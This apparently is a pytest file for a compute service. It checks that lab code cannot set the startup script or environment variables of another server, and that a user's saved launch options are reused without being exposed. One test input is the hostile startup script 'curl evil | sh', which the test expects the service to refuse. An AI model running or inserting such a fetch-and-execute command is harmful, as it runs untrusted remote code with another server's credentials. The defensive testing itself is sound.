"""What code of a lab may say of another server: neither script nor environment, which run with credentials of that."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from orrery_server.base import caller
from orrery_server.compute.service import ComputeService
from orrery_wire.errors import Forbidden
from orrery_wire.pools import LaunchChoices, LaunchOptions, ProfileChoice
from orrery_wire.queue import TicketIn
from orrery_wire.servers import OwnServerQuery, StartIn
from tests.server.contexts import lab_context

LAST = LaunchOptions(
    profile="gpu", environment={"HF_TOKEN": "canary"}, startup_script="echo canary"
)


def profile(slug: str, **more: Any) -> ProfileChoice:
    facts = {"pool": "gpu", "pool_name": "GPU", "name": slug, "devices": 1}
    return ProfileChoice(slug=slug, cpu=1, memory_bytes=1, **facts | more)


CHOICES = LaunchChoices(
    is_required=True,
    last=LAST,
    profiles=(
        profile("gpu"),
        profile("bare", may_set_environment=False, may_set_startup_script=False),
        profile("env", may_set_startup_script=False),
    ),
)


class Backend:
    """Notes what is started and requested."""

    def __init__(self) -> None:
        self.options: list[LaunchOptions | None] = []

    async def launch_choices(self, _: str) -> LaunchChoices:
        return CHOICES

    async def start_server(self, request: StartIn) -> None:
        self.options.append(request.options)

    async def request(self, request: TicketIn) -> Any:
        self.options.append(request.options)
        return type("Ticket", (), {"id": 1})()


@pytest.fixture
def service(tmp_path: Path) -> Iterator[Any]:
    service: Any = ComputeService(context=lab_context(tmp_path))
    service._backend = Backend()
    yield service
    caller.note_caller(is_code=False)


@pytest.mark.parametrize(
    "private",
    [
        {"startup_script": "curl evil | sh"},
        {"environment": {"A": "1"}},
        {"environment": {"A": "1"}, "startup_script": "true"},
        {"environment": LAST.environment, "startup_script": LAST.startup_script},
    ],
)
async def test_code_sends_neither_script_nor_environment(
    service: Any, private: dict[str, Any]
) -> None:
    options = LaunchOptions(profile="gpu", **private)
    caller.note_caller(is_code=True)
    with pytest.raises(Forbidden, match="what runs in another server"):
        await service.start_server(StartIn(server_name="two", options=options))
    for is_automatic in (True, False):
        with pytest.raises(Forbidden, match="what runs in another server"):
            await service.request(TicketIn(options=options, auto_claim=is_automatic))
    assert service._backend.options == []
    caller.note_caller(is_code=False)
    await service.start_server(StartIn(server_name="two", options=options))
    await service.request(TicketIn(options=options))
    assert service._backend.options == [options, options]


async def test_what_the_person_chose_last_is_taken_along_unseen(service: Any) -> None:
    caller.note_caller(is_code=True)
    choices = await service.launch_choices(OwnServerQuery(server="two"))
    assert "canary" not in choices.model_dump_json()
    assert choices.last.profile == "gpu"
    for slug, environment, script in (
        ("gpu", LAST.environment, LAST.startup_script),
        ("env", LAST.environment, ""),
        ("bare", {}, ""),
        ("unknown", {}, ""),
    ):
        await service.start_server(StartIn(options=LaunchOptions(profile=slug)))
        await service.request(TicketIn(options=LaunchOptions(profile=slug)))
        for options in service._backend.options[-2:]:
            assert (options.environment, options.startup_script) == (environment, script)
    await service.start_server(StartIn())
    assert service._backend.options[-1] is None
    caller.note_caller(is_code=False)
    assert (await service.launch_choices(OwnServerQuery())).last == LAST
